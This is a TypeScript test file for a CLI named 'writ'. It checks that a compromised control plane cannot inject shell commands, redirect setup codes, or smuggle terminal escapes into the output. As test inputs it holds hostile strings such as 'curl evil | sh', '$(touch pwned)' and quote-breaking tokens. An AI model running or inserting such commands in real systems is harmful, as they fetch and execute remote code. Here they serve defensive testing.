import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { formatSetupCode } from '../../../schema/api/access.ts';
import { qrOf } from '../../../src/cli/qr.ts';
import { problem, says, startLiar } from '../../support/lying-control.ts';

const created = {
  id: 'tok_01ARZ3NDEKTSV4RRFFQ69G5FAV',
  name: 'phone',
  scope: ['host.wake@pve2'],
  created_at: 1,
  expires_at: 2,
  revoked_at: null,
  last_used_at: null,
};

test('threat 16: no word of a taken control plane becomes part of a line for a shell', async (t) => {
  const { writ, answer } = await startLiar(t);
  const create = () => writ('tokens', 'create', 'phone', '--scope', 'host.wake@pve2');
  for (const token of ['x" ; touch pwned; echo "', '$(touch pwned)', 'a.b', 'a.b.c\n', 'a.b.c d', '']) {
    answer('POST /v1/tokens', says({ ...created, token }));
    const ran = await create();
    assert.equal(ran.exit, 1, token);
    assert.ok(!(ran.out + ran.err).includes('pwned'), ran.err);
    assert.match(ran.err, /answer_malformed/);
  }
  answer('POST /v1/tokens', says({ ...created, token: 'a.b.c' }));
  assert.match((await create()).out, /-H "Authorization: Bearer a\.b\.c"/);
});

test('threat 16: a taken control plane names no other program than writ to be run', async (t) => {
  const { writ, answer } = await startLiar(t);
  const ask = async (line: string): Promise<string> => {
    answer('GET /v1/status', problem(403, { code: 'needs_operator', command_line: line }));
    return (await writ('status')).err;
  };
  for (const line of [
    'curl evil | sh',
    'writ start gaming; curl evil',
    'writ start $(evil)',
    'writ',
    'writ\nevil',
  ]) {
    assert.ok(!/Run: |evil/.test(await ask(line)), line);
  }
  assert.match(await ask('writ start gaming'), /^Run: writ start gaming$/m);
});

test('threat 16: a setup code leads nowhere but to an origin', async (t) => {
  const { code, setup, configDir, writ } = await startLiar(t, { claim: false });
  for (const origin of [
    `${setup.origin}/$(touch pwned)`,
    `${setup.origin}/"`,
    'https://$(touch)',
    'http://192.0.2.1:8420',
    'https://user@192.0.2.1:8420',
  ]) {
    const words = ['init', formatSetupCode({ ...setup, origin }), '--trial', '--origin', 'https://a.example'];
    const ran = await writ(...words);
    assert.equal(ran.exit, 2, origin);
    assert.match(ran.err, /no setup code/);
    assert.equal(existsSync(configDir), false);
  }
  assert.equal((await writ('init', code, '--trial')).exit, 0);
  assert.match(readFileSync(join(configDir, 'home.json'), 'utf8'), /127\.0\.0\.1/);
});

test('threat 16: what a taken control plane says stays on its line', async (t) => {
  const { writ, answer, home } = await startLiar(t);
  const status = { home: home(), time: Date.now(), hosts: [], guests: [] };
  answer(
    'GET /v1/status',
    says({ ...status, sentence: 'All is well.\n\nRun\r\tthis\u001b[2J', warnings: ['one\ntwo'] }),
  );
  const told = await writ('status');
  assert.equal(told.exit, 0, told.err);
  assert.match(told.out, /^All is well\. Run this\[2J$/m);
  assert.match(told.out, /one two/);
  answer('GET /v1/status', problem(409, { detail: 'Refused.\nRun: curl evil' }));
  assert.match((await writ('status')).err, /^Refused\. Run: curl evil$/m);
});

test('a token that is longer than any code holds is shown without one', () => {
  assert.equal(qrOf('x'.repeat(2953), 0), null);
  assert.notEqual(qrOf('x'.repeat(2953), 1000), null);
  assert.equal(qrOf('x'.repeat(2954), 1000), null);
  assert.equal(qrOf('\u00e9'.repeat(1477), 1000), null);
});

test('threat 13: an entry of the audit log with a line break is exported as none', async (t) => {
  const { writ, answer } = await startLiar(t);
  const head = { seq: 1, hash: `sha256:${'0'.repeat(64)}` };
  answer('GET /v1/audit', says({ entries: ['{"seq":1,\n"more":1}'], head }));
  const ran = await writ('audit', 'export');
  assert.equal(ran.exit, 3);
  assert.match(ran.err, /line break/);
});
